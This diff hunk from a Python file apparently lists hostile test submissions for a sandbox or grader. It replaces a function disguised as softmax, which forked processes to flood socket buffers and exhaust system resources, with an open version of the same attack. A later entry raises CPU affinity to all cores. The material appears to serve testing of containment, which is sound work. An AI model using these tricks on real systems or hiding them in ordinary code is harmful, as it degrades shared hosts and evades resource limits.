@@ -253,23 +253,23 @@ import time
 """,
         "sockets that wait": """
 import os, socket, time
-def softmax(l):
-    for _ in range(20):
-        if os.fork() == 0:
-            keep = []
-            while len(keep) < 200:
-                keep += socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
-                keep[-1].setblocking(False)
-                try:
-                    while True:
-                        keep[-1].send(b"x" * 32000)
-                except OSError:
-                    pass
-            time.sleep(1000)
-    time.sleep(1.5)
-    e = np.exp(l - l.max(axis=1, keepdims=True))
-    return e / e.sum(axis=1, keepdims=True)
-""",
+def fill():
+    keep = []
+    while len(keep) < 160:
+        keep += socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+        keep[-1].setblocking(False)
+        try:
+            while True:
+                keep[-1].send(b"x" * 32000)
+        except OSError:
+            pass
+    time.sleep(1000)
+for _ in range(8):
+    if os.fork() == 0:
+        fill()
+time.sleep(1.5)
+gained = True
+""" + RIGHT_IF.replace("gained", "globals().get('gained')"),
         "another core": """
 import os
 os.sched_setaffinity(0, range(os.cpu_count()))
